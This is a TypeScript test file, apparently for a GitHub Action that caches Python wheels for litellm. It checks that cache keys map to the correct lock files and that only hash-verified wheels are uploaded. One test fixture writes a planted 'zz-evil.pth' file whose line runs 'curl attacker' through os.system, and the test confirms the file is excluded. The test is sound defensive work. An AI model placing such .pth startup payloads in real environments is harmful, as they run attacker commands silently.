// The Actions cache wiring: main records a fresh venv, post saves the lock's wheels (never the venv), keeping
// only files whose sha256 the lock lists; a missing service or a failure never fails the job.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { savePending } from '../../src/action/cache.ts';
import { lockForCacheKey } from '../../src/litellm/lock.ts';
import { keepVerifiedWheels, lockBlocks, lockHashes } from '../../src/litellm/wheels.ts';

function fakeCache(opts: { available?: boolean; fail?: boolean } = {}) {
  const saved: Array<{ paths: string[]; key: string; files: string[] }> = [];
  const module = {
    isFeatureAvailable: () => opts.available ?? true,
    restoreCache: async () => undefined,
    saveCache: async (paths: string[], key: string) => {
      if (opts.fail) throw new Error('Cache service responded with 503');
      saved.push({ paths, key, files: fs.readdirSync(paths[0]!).sort() });
      return 1;
    },
  };
  return { saved, load: async () => module as never };
}

const sha = (b: Buffer | string) => crypto.createHash('sha256').update(b).digest('hex');

describe('saving the lock wheels from post', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'vl-cache-test-'));
  after(() => fs.rmSync(root, { recursive: true, force: true }));
  const good = Buffer.from('a real wheel');
  const lockText = `# test lock\nalpha==1.0 \\\n    --hash=sha256:${sha(good)}\n`;
  const prefix = sha(lockText).slice(0, 12);
  const key = `verify-litellm-linux-x64-py3.11-0a1b2c3d-litellm-9.9.9-${prefix}`;
  fs.mkdirSync(path.join(root, 'locks'), { recursive: true });
  fs.writeFileSync(path.join(root, 'locks', `litellm-9.9.9-runtime-${prefix}.txt`), lockText);
  const venv = path.join(root, key);
  fs.mkdirSync(venv);
  const wheels = path.join(root, `wheels-${key}`);
  const recorded = JSON.stringify({ path: venv, key });

  it('finds the lock a key was made from (run-time lock in the cache, by its hash), and nothing for a foreign key', () => {
    const lock = lockForCacheKey(key, root);
    assert.equal(lock?.reviewed, false);
    assert.equal(lock?.text, lockText);
    assert.equal(lockForCacheKey(key.replace(prefix, '000000000000'), root), null);
    assert.ok(
      lockForCacheKey(
        `verify-litellm-linux-x64-py3.11-0a1b2c3d-litellm-1.108.7-${sha(fs.readFileSync(path.join(import.meta.dirname, '..', '..', 'locks', 'litellm-1.108.7.txt'))).slice(0, 12)}`,
        root,
      )?.reviewed,
    );
  });

  it('finds the lock of a key made with the google extra: the shipped -google lock, or its run-time lock; never the plain one', () => {
    const googleText = fs.readFileSync(path.join(import.meta.dirname, '..', '..', 'locks', 'litellm-1.108.7-google.txt'));
    const shipped = lockForCacheKey(`verify-litellm-linux-x64-py3.11-0a1b2c3d-litellm-1.108.7-google-${sha(googleText).slice(0, 12)}`, root);
    assert.equal(shipped?.reviewed, true);
    assert.deepEqual(shipped?.extras, ['google']);
    assert.equal(shipped?.version, '1.108.7');
    assert.equal(shipped?.text, googleText.toString());
    // The plain lock's hash under a google key: no match (a key names exactly one lock).
    const plain = sha(fs.readFileSync(path.join(import.meta.dirname, '..', '..', 'locks', 'litellm-1.108.7.txt'))).slice(0, 12);
    assert.equal(lockForCacheKey(`verify-litellm-linux-x64-py3.11-0a1b2c3d-litellm-1.108.7-google-${plain}`, root), null);
    const runtimeText = '# run-time google lock\nalpha==1.0 \\\n    --hash=sha256:00\n';
    const p = sha(runtimeText).slice(0, 12);
    fs.writeFileSync(path.join(root, 'locks', `litellm-9.9.9-google-runtime-${p}.txt`), runtimeText);
    const runtime = lockForCacheKey(`verify-litellm-linux-x64-py3.11-0a1b2c3d-litellm-9.9.9-google-${p}`, root);
    assert.deepEqual([runtime?.reviewed, runtime?.extras, runtime?.version], [false, ['google'], '9.9.9']);
    // An extra verify-litellm does not know is no lock at all.
    assert.equal(lockForCacheKey(`verify-litellm-linux-x64-py3.11-0a1b2c3d-litellm-9.9.9-evil-${p}`, root), null);
  });

  it('uploads only the wheels the lock lists: a planted .pth and a swapped wheel are left out', async () => {
    fs.mkdirSync(wheels, { recursive: true });
    fs.writeFileSync(path.join(wheels, 'alpha-1.0-py3-none-any.whl'), good);
    fs.writeFileSync(path.join(wheels, 'zz-evil.pth'), 'import os; os.system("curl attacker")\n');
    fs.writeFileSync(path.join(wheels, 'beta-1.0-py3-none-any.whl'), 'swapped content');
    const cache = fakeCache();
    const message = await savePending(recorded, { load: cache.load, python: async () => assert.fail('no download: the folder exists') });
    assert.match(message, /Saved 1 hash-checked wheels .* \(2 files the lock does not list left out\)/);
    assert.deepEqual(cache.saved, [{ paths: [wheels], key, files: ['alpha-1.0-py3-none-any.whl'] }]);
  });

  it('says so and saves nothing without the service, when the venv is gone, the state is unreadable, or no lock matches', async () => {
    const cache = fakeCache({ available: false });
    assert.match(await savePending(recorded, { load: cache.load }), /not available here/);
    assert.match(await savePending(JSON.stringify({ path: path.join(venv, 'nope'), key }), { load: cache.load }), /is gone/);
    assert.match(await savePending('{not json', { load: cache.load }), /unreadable state/);
    assert.match(await savePending(JSON.stringify({ path: venv, key: 'verify-litellm-x' }), { load: cache.load }), /no lock matches/);
    assert.deepEqual(cache.saved, []);
  });

  it('reports a failing service instead of throwing', async () => {
    assert.match(await savePending(recorded, { load: fakeCache({ fail: true }).load }), /Could not save .*503/);
  });

  it('splits a lock into requirement blocks and reads its hashes', () => {
    const text = `# c\na==1 \\\n    --hash=sha256:${'1'.repeat(64)} \\\n    --hash=sha256:${'2'.repeat(64)}\n    # via b\nc==2 ; sys_platform == 'win32' \\\n    --hash=sha256:${'3'.repeat(64)}\n`;
    assert.equal(lockBlocks(text).length, 2);
    assert.equal(lockHashes(text).size, 3);
    const dir = fs.mkdtempSync(path.join(root, 'w-'));
    fs.writeFileSync(path.join(dir, 'x.whl'), 'x');
    assert.deepEqual(keepVerifiedWheels(dir, text).removed, ['x.whl']);
  });
});
